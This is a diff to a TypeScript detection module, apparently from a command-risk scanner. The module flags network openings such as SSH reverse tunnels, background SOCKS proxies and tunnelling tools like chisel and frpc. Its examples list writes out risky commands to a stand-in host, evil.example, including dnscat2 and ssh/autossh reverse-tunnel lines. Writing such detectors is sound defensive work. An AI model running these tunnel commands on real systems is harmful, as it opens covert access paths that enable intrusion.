@@ -1,4 +1,5 @@
 // Openings: ways in and out that the machine did not have before, by servers and tunnels, and the network as such.
+import type { CommandFact } from "../../../../shared/facts.ts";
 import { severity } from "../bands.ts";
 import { type Heuristic, clip, firstOf, onCode, onCommand, when } from "../heuristic.ts";
 import { isDownloader } from "../programs.ts";
@@ -95,7 +96,7 @@ export const openings: readonly Heuristic[] = [
           : `${command.program} opens a way through the firewall`,
       ),
       onCommand(["ssh", "autossh"], (command) =>
-        tunnelsBack(command.arguments) ? "It opens a port on another machine that leads back here" : null,
+        tunnelsBack(command) ? "It opens a port on another machine that leads back here" : null,
       ),
       onCommand(["chisel", "gost", "ssf", "rpivot", "frpc", "sshuttle"], (command) =>
         /(?:^|\s)(?:R:|--?reverse\b|-F=)|\bclient\b.*\bR:/u.test(joined(command))
@@ -111,7 +112,9 @@ export const openings: readonly Heuristic[] = [
       ),
       onCommand(["ssh", "autossh"], (command) =>
         /^-[a-zA-Z]*D/u.test(command.arguments.find((argument) => /^-[a-zA-Z]*D/u.test(argument)) ?? "") &&
-        command.arguments.some((argument) => /^-[a-zA-Z]*f/u.test(argument))
+        (command.background === true ||
+          command.program === "autossh" ||
+          command.arguments.some((argument) => /^-[a-zA-Z]*f/u.test(argument)))
           ? "It leaves a way into another network open in the background"
           : null,
       ),
@@ -122,12 +125,21 @@ export const openings: readonly Heuristic[] = [
       ),
     ),
     examples: {
-      risky: ["dnscat2 evil.example", "ssh -R 8080:localhost:80 user@evil.example", "code tunnel"],
+      risky: [
+        "dnscat2 evil.example",
+        "ssh -R 8080:localhost:80 user@evil.example",
+        "ssh -o 'RemoteForward 8080 localhost:80' user@evil.example",
+        "autossh -M 0 -R 2222:localhost:22 user@evil.example",
+        "autossh -M 0 -N -D 1080 user@evil.example",
+        "ssh -N -D 1080 user@evil.example &",
+        "code tunnel",
+      ],
       honest: [
         "ssh -L 5432:localhost:5432 host.example",
         "ngrok --version",
         "ngrok http 3000",
         "ssh -D 1080 host.example",
+        "autossh -M 0 -N -L 5432:localhost:5432 host.example",
       ],
     },
   },
@@ -200,11 +212,10 @@ export const openings: readonly Heuristic[] = [
 ];
 
 /** `-R` among the options that stand before the destination; after it come the words of the remote command. */
-function tunnelsBack(list: readonly string[]): boolean {
-  const destination = list.findIndex(
-    (argument, at) => !argument.startsWith("-") && !/^-[bcDEeFIiJLlmOopQRSWw]$/u.test(list[at - 1] ?? ""),
-  );
+function tunnelsBack({ program, arguments: list }: CommandFact): boolean {
+  const valued = program === "autossh" ? /^-[a-zA-Z]*[MbcDEeFIiJLlmOopQRSWw]$/u : /^-[a-zA-Z]*[bcDEeFIiJLlmOopQRSWw]$/u;
+  const destination = list.findIndex((argument, at) => !argument.startsWith("-") && !valued.test(list[at - 1] ?? ""));
   return list
     .slice(0, destination < 0 ? list.length : destination)
-    .some((argument) => /^-[a-zA-Z]*R(?:$|[\d:])/u.test(argument));
+    .some((argument) => /^-[a-zA-Z]*R(?:$|[\d:])/u.test(argument) || /^(?:-o\s*)?RemoteForward[\s=]/iu.test(argument));
 }
